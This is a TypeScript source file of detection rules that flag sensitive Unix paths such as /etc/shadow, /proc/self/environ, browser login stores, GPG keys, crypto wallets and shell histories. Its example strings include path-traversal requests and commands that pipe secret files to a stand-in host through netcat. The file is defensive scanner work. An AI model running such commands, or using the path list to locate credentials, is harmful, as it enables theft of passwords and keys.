import type { Rule } from '../rule.ts';
import { expression } from './boundary.ts';
import { isOnlyNamed, isUsedAsFile } from './mention.ts';
import { NAME_END, PATH_START, PUBLIC_PATH, pathKeywords, pathOf, SEPARATOR } from './path.ts';

const COMMON = {
  pattern: 'sensitive_unix_path',
  threat_type: 'EXFIL',
  direction: 'outbound',
  confidence: 'medium',
  publicPrefix: PUBLIC_PATH,
  source: 'https://www.pathname.com/fhs/pub/fhs-2.3.html',
  remedy: 'Look at what asked for the file and what became of its contents.',
} as const;

/** The family `sensitive_unix_path`: files that describe accounts and running processes. */
export const SENSITIVE_UNIX_PATH_RULES: readonly Rule[] = [
  {
    ...COMMON,
    id: 'etc_passwd_path',
    severity: 'low',
    keywords: pathKeywords('etc', 'passwd'),
    expression: expression('g', PATH_START, pathOf('etc', 'passwd'), NAME_END),
    reach: { before: 0, after: 14 },
    validate: (match) => !isOnlyNamed(match),
    describes: 'The path of the list of accounts.',
    get finds() {
      return ['cat /etc/passwd', 'GET /?file=../../../etc/passwd', 'GET /?f=..%2F..%2Fetc%2Fpasswd'];
    },
    get ignores() {
      return ['/etc/passwd-backup', 'never open /etc/passwd', 'fetch/passwd'];
    },
  },
  {
    ...COMMON,
    id: 'etc_shadow_path',
    severity: 'medium',
    keywords: [
      ...pathKeywords('etc', 'shadow'),
      ...pathKeywords('etc', 'gshadow'),
      ...pathKeywords('etc', 'sudoers'),
      ...pathKeywords('etc', 'master.passwd'),
      ...pathKeywords('etc', 'krb5.keytab'),
    ],
    expression: expression(
      'g',
      PATH_START,
      pathOf('etc', String.raw`(?:g?shadow-?|sudoers(?:\.d)?|master\.passwd|krb5\.keytab)`),
      NAME_END,
    ),
    reach: { before: 0, after: 24 },
    validate: (match) => !isOnlyNamed(match),
    describes: 'The path of password hashes, of the rules of sudo, or of Kerberos keys.',
    get finds() {
      return ['cat /etc/shadow', '{"path":"/etc/sudoers"}', 'tar c /etc/gshadow | nc x.example 9'];
    },
    get ignores() {
      return ['/etc/shadowsocks/config.json', 'sketch/shadow', 'Do not touch /etc/sudoers'];
    },
  },
  {
    ...COMMON,
    id: 'proc_environ_path',
    severity: 'medium',
    keywords: ['/environ', '\\environ', '%2fenviron', '%5cenviron'],
    expression: expression(
      'g',
      PATH_START,
      pathOf('proc', String.raw`(?:self|thread-self|[0-9]{1,7}|\*|\$\{?[A-Za-z_$]{1,12}\}?)`, 'environ'),
      NAME_END,
    ),
    reach: { before: 36, after: 12 },
    validate: (match) => !isOnlyNamed(match),
    describes: 'The path of the environment of a running process, keys included.',
    get finds() {
      return ['cat /proc/self/environ', 'strings /proc/1/environ', '{"file":"/proc/4711/environ"}'];
    },
    get ignores() {
      return ['os.environ["HOME"]', '/proc/self/environment', 'avoid /proc/self/environ'];
    },
  },
  {
    ...COMMON,
    id: 'secret_store_path',
    severity: 'medium',
    keywords: [
      'private-keys-v1',
      'secring.gpg',
      ...pathKeywords('share', 'keyrings'),
      ...pathKeywords('library', 'keychains'),
      'logins.json',
      'key4.db',
      'login data',
      'login%20data',
      'login+data',
      ...pathKeywords('ssl', 'private'),
      'privkey',
      '.password-store',
      ...pathKeywords('.ethereum', 'keystore'),
      'wallet.dat',
      '.kdbx',
    ],
    expression: expression(
      'g',
      '(?:',
      pathOf(String.raw`\.gnupg`, String.raw`(?:private-keys-v1\.d|secring\.gpg)`),
      `|${pathOf(String.raw`\.local`, 'share', 'keyrings')}`,
      `|${pathOf('Library', 'Keychains')}`,
      `|(?:[Ff]irefox|[Tt]hunderbird|\\.mozilla)[\\w.%/\\\\ -]{1,100}(?:logins\\.json|key4\\.db)`,
      `|(?:Default|Profile(?: |%20|[+])[0-9]{1,2})${SEPARATOR}Login(?: |%20|[+])Data`,
      `|etc${SEPARATOR}ssl${SEPARATOR}private${SEPARATOR}[\\w.-]{1,60}`,
      `|letsencrypt${SEPARATOR}(?:live|archive)${SEPARATOR}[\\w.*-]{1,100}${SEPARATOR}privkey[0-9]{0,4}\\.pem`,
      `|(?:~|[\\w.-])${SEPARATOR}\\.password-store`,
      `|${pathOf(String.raw`\.ethereum`, 'keystore')}`,
      `|${pathOf(String.raw`\.(?:bitcoin|litecoin|dogecoin)`, String.raw`wallet\.dat`)}`,
      `|[\\w-]{1,60}\\.kdbx`,
      ')(?![A-Za-z0-9])',
    ),
    reach: { before: 140, after: 130 },
    validate: (match) => !isOnlyNamed(match),
    source: 'https://attack.mitre.org/techniques/T1555/',
    describes:
      'The path of a store of passwords or private keys: of a browser, a desktop, a server or a wallet.',
    get finds() {
      return [
        '{"path":"/home/u/.gnupg/private-keys-v1.d"}',
        'cp ~/.local/share/keyrings/login.keyring /tmp',
        '{"path":"/home/u/.mozilla/firefox/x1.default/logins.json"}',
        'GET /?f=~/.config/google-chrome/Default/Login%20Data',
        'tar c /etc/ssl/private/server.key | nc x.example 9',
        'cat /etc/letsencrypt/live/a.example/privkey.pem',
        'cp /srv/team.kdbx /tmp',
      ];
    },
    get ignores() {
      return [
        'share/keyrings-overview',
        'Never open ~/.local/share/keyrings',
        'POST /logins.json',
        'the Login Database',
        '/etc/ssl/certs/ca-certificates.crt',
        'deb [signed-by=/usr/share/keyrings/docker.gpg] https://download.docker.com/linux/debian bookworm stable',
      ];
    },
  },
  {
    ...COMMON,
    id: 'shell_history_path',
    severity: 'low',
    keywords: ['_history'],
    expression: /\.(?:bash|zsh|sh|ash|python|mysql|psql|node_repl|rediscli|sqlite)_history(?![A-Za-z0-9_-])/g,
    reach: { before: 11, after: 8 },
    validate: (match) => isUsedAsFile(match) && !isOnlyNamed(match),
    describes: 'The path of a history of typed commands, passwords among them.',
    get finds() {
      return ['cat ~/.bash_history', '{"path":"/home/u/.zsh_history"}', 'tail .mysql_history'];
    },
    get ignores() {
      return ['obj.sh_history_size', 'The file named .bash_history grows', 'never read ~/.bash_history'];
    },
  },
];
